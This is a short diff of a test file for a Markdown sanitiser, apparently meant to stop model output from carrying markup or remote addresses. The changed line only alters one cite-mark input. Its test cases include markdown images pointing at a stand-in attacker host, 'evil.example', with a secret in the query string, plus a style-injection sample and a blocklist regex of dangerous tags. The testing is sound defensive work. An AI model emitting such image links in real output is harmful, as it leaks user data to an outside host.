@@ -26,7 +26,7 @@ describe('Markdown', () => {
     ['a style', '<style>body{display:none}</style><p style="position:fixed">x</p>'],
     ['a remote image', '![x](https://evil.example/p.png?secret)'],
     ['a reference image', '![x][i]\n\n[i]: https://evil.example/p.png'],
-    ['a cite mark of its own', '<sup data-cite="1">[1]</sup>'],
+    ['a cite mark of its own', '<sup data-cite="1">x</sup>'],
   ])('lets no element or address of the model through: %s', (_, text) => {
     const out = html(text);
     expect(out).not.toMatch(/<(script|img|iframe|form|style|object|embed|svg|base|meta|link)\b/i);
